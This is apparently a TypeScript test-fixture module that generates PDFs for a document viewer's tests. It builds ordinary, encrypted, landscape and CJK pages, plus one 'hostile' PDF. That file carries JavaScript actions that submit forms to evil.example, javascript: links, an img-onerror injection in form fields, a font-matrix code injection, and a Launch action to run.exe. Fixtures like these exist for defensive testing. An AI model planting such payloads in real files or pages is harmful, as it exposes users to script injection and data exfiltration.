import PDFDocument from 'pdfkit'

type Made = {
  pages: number
  /** Lines of a page, counted from 1. */
  lines?(page: number): string[]
  password?: string
  /** Interval of pages in landscape. */
  acrossEvery?: number
  /** Adds a link to another page, and one to an address. */
  links?: boolean
}

const filler = (page: number) => [
  `Register of companies, sheet ${page}`,
  ...Array.from(
    { length: 34 },
    (_, line) =>
      `${line + 1}. Shares allotted to member ${page * 100 + line} of Kampala Millers Limited, paid in full.`,
  ),
]

/** Makes a PDF like the registry's own software does: text in standard fonts on A4. */
export const makePdf = ({ pages, lines = filler, password, acrossEvery, links }: Made) =>
  new Promise<Buffer>((done, fail) => {
    const pdf = new PDFDocument({
      autoFirstPage: false,
      ...(password && { userPassword: password, ownerPassword: `${password}!` }),
      info: { Title: 'Test', CreationDate: new Date(0), ModDate: new Date(0) },
    })
    const parts: Buffer[] = []
    pdf.on('data', (part: Buffer) => parts.push(part))
    pdf.on('end', () => done(Buffer.concat(parts)))
    pdf.on('error', fail)
    for (let page = 1; page <= pages; page++) {
      const across = acrossEvery !== undefined && page % acrossEvery === 0
      pdf.addPage({ size: 'A4', layout: across ? 'landscape' : 'portrait', margin: 50 })
      if (links) pdf.addNamedDestination(`page ${page}`)
      pdf.fontSize(10)
      for (const [index, line] of lines(page).entries()) pdf.text(line, 50, 50 + index * 15, { lineBreak: false })
      if (links && page === 1) {
        pdf.text('To the last page', 50, 700, { lineBreak: false, goTo: `page ${pages}` })
        pdf.text('To the gazette', 50, 730, { lineBreak: false, link: 'https://gazette.example/notices' })
        pdf.text('To a trap', 50, 760, { lineBreak: false, link: 'javascript:window.trapped=1' })
      }
    }
    pdf.end()
  })

/** Builds a PDF from raw objects, for content that no library writes: `objects[0]` is object 1, the catalogue. */
const rawPdf = (objects: string[]): Buffer => {
  let text = '%PDF-1.7\n'
  const places = objects.map((object, index) => {
    const place = text.length
    text += `${index + 1} 0 obj\n${object}\nendobj\n`
    return place
  })
  const start = text.length
  const rows = places.map(place => `${String(place).padStart(10, '0')} 00000 n \n`).join('')
  text += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}`
  text += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`
  return Buffer.from(text, 'latin1')
}

const stream = (text: string) => `<< /Length ${text.length} >>\nstream\n${text}\nendstream`
const page = (rest: string) => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 400 300] ${rest} >>`
const pages = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'

/** Makes one page that needs a character map (Japanese, not embedded) and a colour profile (CMYK). */
export const needyPdf = () =>
  rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    pages,
    page('/Contents 4 0 R /Resources << /Font << /F1 5 0 R /F2 8 0 R >> >>'),
    stream(
      '0.9 0.1 0.2 0 k 20 20 100 100 re f BT /F1 24 Tf 40 200 Td <93FA967B> Tj ET BT /F2 24 Tf 40 150 Td (Mbale) Tj ET',
    ),
    '<< /Type /Font /Subtype /Type0 /BaseFont /Ryumin-Light /Encoding /90ms-RKSJ-H /DescendantFonts [6 0 R] >>',
    '<< /Type /Font /Subtype /CIDFontType0 /BaseFont /Ryumin-Light /CIDSystemInfo << /Registry (Adobe) /Ordering (Japan1) /Supplement 2 >> /FontDescriptor 7 0 R >>',
    '<< /Type /FontDescriptor /FontName /Ryumin-Light /Flags 6 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 >>',
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ])

/**
 * Makes one page that tries every attack of a hostile file: scripts on opening, on the page and in links, and network
 * requests.
 */
export const hostilePdf = () => {
  const script = '<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example/"\\);) >>'
  return rawPdf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} /AA << /WC ${script} >> /AcroForm << /Fields [7 0 R] /CO [7 0 R] >> /Names << /JavaScript << /Names [(a) ${script}] >> >> >>`,
    pages,
    page(
      `/Contents 4 0 R /Resources << /Font << /F1 5 0 R >> /XObject << /X 8 0 R >> >> /AA << /O ${script} >> /Annots [6 0 R 7 0 R 9 0 R]`,
    ),
    stream('BT /F1 24 Tf 40 200 Td (Harmless) Tj ET /X Do'),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 0 0 1 0 (0\\); window.trapped = 1; //)] >>',
    '<< /Type /Annot /Subtype /Link /Rect [20 20 120 60] /A << /S /URI /URI (javascript:window.trapped=1) >> >>',
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (<img src=x onerror=window.trapped=1>) /V (<img src=x onerror=window.trapped=1>) /Rect [150 20 350 60] /AA << /C ${script} /K ${script} >> >>`,
    '<< /Type /XObject /Subtype /Form /BBox [0 0 1 1] /Ref << /F << /FS /URL /F (https://evil.example/x.pdf) >> /Page 0 >> /Length 0 >>\nstream\n\nendstream',
    '<< /Type /Annot /Subtype /Link /Rect [20 80 120 120] /A << /S /Launch /F (https://evil.example/run.exe) >> >>',
  ])
}
